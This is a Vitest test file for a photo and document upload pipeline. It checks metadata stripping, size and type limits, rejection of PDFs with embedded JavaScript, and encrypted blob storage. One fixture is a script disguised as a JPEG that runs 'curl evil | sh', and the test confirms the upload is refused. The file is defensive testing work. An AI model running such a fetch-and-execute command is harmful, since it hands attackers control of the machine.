import { createHash, randomUUID } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import exifr from 'exifr';
import { describe, expect, it } from 'vitest';
import { buildPdf, jpegWithPrivateExif, pageObjects } from '../test/fixtures.ts';
import { readAll } from './blob-store.ts';
import { ingestUpload, readDecrypted, storeEncrypted } from './ingest.ts';
import { createMasterKey } from './keys.ts';
import { LocalBlobStore } from './local-blob-store.ts';

const MB = 1_000_000;

describe('ingestUpload', () => {
  it('cleans a photo into three variants, hashes the original and keeps only the capture date', async () => {
    const result = await ingestUpload({
      bytes: await jpegWithPrivateExif(),
      maxBytes: 10 * MB,
      kind: 'photo',
    });
    expect(result.sourceType).toBe('image/jpeg');
    expect(result.capturedAt).toBe('2022-03-01T10:20:30+02:00');
    expect(result.variants.map((v) => [v.name, v.mime, v.width, v.height])).toEqual([
      ['original', 'image/jpeg', 640, 480],
      ['medium', 'image/jpeg', 640, 480],
      ['thumbnail', 'image/jpeg', 256, 192],
    ]);
    const original = result.variants[0]!;
    expect(result.contentHash).toBe(createHash('sha256').update(original.bytes).digest('hex'));
    expect(await exifr.gps(original.bytes)).toBeUndefined();
  });

  it('refuses a script renamed .jpg, whatever it claims to be', async () => {
    const script = Buffer.from('#!/usr/bin/env node\nrequire("child_process").exec("curl evil | sh")\n');
    await expect(ingestUpload({ bytes: script, maxBytes: MB, kind: 'photo' })).rejects.toMatchObject({
      code: 'UNSUPPORTED_TYPE',
    });
  });

  it('refuses empty and oversize files before looking inside them', async () => {
    await expect(ingestUpload({ bytes: Buffer.alloc(0), maxBytes: MB, kind: 'photo' })).rejects.toMatchObject(
      {
        code: 'EMPTY_FILE',
      },
    );
    const photo = await jpegWithPrivateExif();
    await expect(
      ingestUpload({ bytes: photo, maxBytes: photo.length - 1, kind: 'photo' }),
    ).rejects.toMatchObject({
      code: 'FILE_TOO_LARGE',
    });
  });

  it('accepts PDFs as documents only, unchanged, and refuses active ones', async () => {
    const pdf = buildPdf(pageObjects());
    await expect(ingestUpload({ bytes: pdf, maxBytes: MB, kind: 'photo' })).rejects.toMatchObject({
      code: 'UNSUPPORTED_TYPE',
    });
    const doc = await ingestUpload({ bytes: pdf, maxBytes: MB, kind: 'document' });
    expect(doc.variants).toEqual([
      expect.objectContaining({
        name: 'original',
        mime: 'application/pdf',
        bytes: pdf,
        width: null,
        height: null,
      }),
    ]);
    const withScript = buildPdf([...pageObjects('/OpenAction 5 0 R'), '<< /S /JavaScript /JS (x) >>']);
    await expect(ingestUpload({ bytes: withScript, maxBytes: MB, kind: 'document' })).rejects.toMatchObject({
      code: 'PDF_ACTIVE_CONTENT',
    });
  });

  it('reads an upload stream but stops at the size limit', async () => {
    const endless = Readable.from(
      (function* () {
        for (;;) yield Buffer.alloc(64 * 1024);
      })(),
    );
    await expect(readAll(endless, 5 * MB)).rejects.toMatchObject({ code: 'FILE_TOO_LARGE' });
  });
});

describe('storeEncrypted / readDecrypted on a local folder', () => {
  it('stores nothing when the plaintext stream fails midway', async () => {
    const root = await mkdtemp(join(tmpdir(), 'homeward-ingest-'));
    try {
      const store = new LocalBlobStore(root);
      async function* broken() {
        yield Buffer.alloc(200_000);
        throw new Error('connection reset');
      }
      const attempt = storeEncrypted(store, { blobId: 'b1', data: broken(), master: createMasterKey('k1') });
      await expect(attempt).rejects.toMatchObject({ code: 'UPLOAD_INTERRUPTED' });
      expect(await store.exists('b1')).toBe(false);
      expect(await readdir(root, { recursive: true })).toEqual(['b1']); // only the empty shard folder
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });

  it('stores each variant encrypted and reads back exactly what was stored', async () => {
    const root = await mkdtemp(join(tmpdir(), 'homeward-ingest-'));
    try {
      const store = new LocalBlobStore(root);
      const master = createMasterKey('k1');
      const { variants, contentHash } = await ingestUpload({
        bytes: await jpegWithPrivateExif(),
        maxBytes: MB,
        kind: 'photo',
        format: 'webp',
      });
      const stored = await Promise.all(
        variants.map((v) => storeEncrypted(store, { blobId: randomUUID(), data: v.bytes, master })),
      );
      expect(stored[0]!.contentHash).toBe(contentHash);
      for (const [i, s] of stored.entries()) {
        const raw = await readAll(await store.get(s.blobId));
        expect(raw.includes(variants[i]!.bytes.subarray(0, 12))).toBe(false); // no RIFF/WEBP header at rest
        const back = await readDecrypted(store, { ...s, masters: [master] });
        expect(back).toEqual(variants[i]!.bytes);
      }
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});
